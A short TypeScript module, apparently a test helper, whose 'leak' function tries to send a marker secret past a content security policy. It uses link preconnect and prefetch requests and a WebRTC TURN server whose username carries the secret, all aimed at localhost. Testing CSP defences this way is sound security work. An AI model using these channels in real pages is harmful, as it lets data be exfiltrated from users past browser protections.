/** Resolves when the browser has made the connection a link asks for, or has refused it. */
function link(rel: string, href: string): Promise<void> {
  return new Promise((resolve) => {
    const element = document.createElement('link');
    element.rel = rel;
    element.href = href;
    element.addEventListener('load', () => resolve());
    element.addEventListener('error', () => resolve());
    document.head.append(element);
  });
}

/** Tries to send a secret to another server in the ways a content security policy lets through. */
export async function leak(http: string, turn: string): Promise<void> {
  void link('preconnect', `http://localhost:${http}`);
  await link('prefetch', `http://localhost:${http}/secret-order-4711`);
  const connection = new RTCPeerConnection({
    iceServers: [{ urls: `turn:127.0.0.1:${turn}?transport=udp`, username: 'secret-order-4711', credential: 'none' }],
  });
  connection.createDataChannel('leak');
  await connection.setLocalDescription(await connection.createOffer());
  await new Promise<void>((resolve) => {
    const look = () => connection.iceGatheringState === 'complete' && resolve();
    connection.addEventListener('icegatheringstatechange', look);
    look();
  });
  connection.close();
}
